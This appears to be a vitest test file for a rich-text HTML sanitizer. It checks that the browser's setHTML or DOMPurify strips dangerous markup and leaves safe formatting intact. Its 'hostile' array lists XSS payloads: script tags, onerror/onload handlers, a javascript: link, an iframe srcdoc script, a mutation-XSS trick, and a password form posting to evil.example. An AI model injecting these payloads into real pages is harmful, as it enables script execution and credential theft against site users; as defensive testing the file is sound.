import { afterEach, describe, expect, test } from 'vitest';
import { html, mount, until } from '../../test/support.js';
import { richText } from './rich-text.js';

const hostile = [
  '<p>Guten Tag</p><script>window.hacked = true</script>',
  '<img src=x onerror="window.hacked = true"><svg onload="window.hacked = true"><p>Guten Tag</p></svg>',
  '<p onclick="window.hacked = true" style="position:fixed;inset:0" id="login" class="button">Guten Tag</p>',
  '<iframe srcdoc="<script>parent.hacked = true</script>"></iframe><p>Guten Tag</p>',
  '<form action="https://evil.example"><input name="password"><p>Guten Tag</p></form>',
  '<p><a href="javascript:window.hacked=true" target="_top" ping="https://evil.example">Guten Tag</a></p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=true&gt;"></table></math><p>Guten Tag</p>',
];

const original = Element.prototype as { setHTML?: unknown };
const own = original.setHTML;
afterEach(() => {
  original.setHTML = own;
});

describe.each(['the browser', 'DOMPurify'])('cleaned by %s', (by) => {
  test.each(hostile)('nothing that could run, load or pose as the page is left of %s', async (dirty) => {
    if (by === 'DOMPurify') original.setHTML = undefined;
    else expect(own).toBeTypeOf('function');
    const place = mount(html`<div ${richText(dirty)}></div>`);
    // DOMPurify is loaded on its first use; a browser may leave nothing at all.
    await until(() => place.childNodes.length || by === 'the browser');
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect('hacked' in window).toBe(false);
    const attributes = [...place.querySelectorAll('*')].flatMap((element) => element.getAttributeNames());
    expect(attributes.filter((name) => !['target', 'rel'].includes(name))).toEqual([]);
    expect(place.querySelector('script,img,svg,iframe,form,input,style,math')).toBeNull();
  });

  test('what the server lets through stays as it is', async () => {
    if (by === 'DOMPurify') original.setHTML = undefined;
    const clean =
      '<h3>Termin</h3><p>Am <strong>Montag</strong><br>um <em>acht</em></p><ul><li>eins</li></ul><table><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr></tbody></table>';
    const place = mount(html`<div ${richText(clean)}></div>`);
    await until(() => place.childNodes.length);
    expect(place.innerHTML).toBe(clean);
  });
});

test('links open in a tab of their own and tell it nothing of this page', async () => {
  const place = mount(html`<div ${richText('<a href="https://beispiel.de/a">a</a><a href="tel:030123">b</a>')}></div>`);
  await until(() => place.querySelectorAll('a').length === 2);
  for (const link of place.querySelectorAll('a'))
    expect([link.target, link.rel]).toEqual(['_blank', 'noopener noreferrer']);
  expect(place.querySelectorAll('a')[1]?.getAttribute('href')).toBe('tel:030123');
});
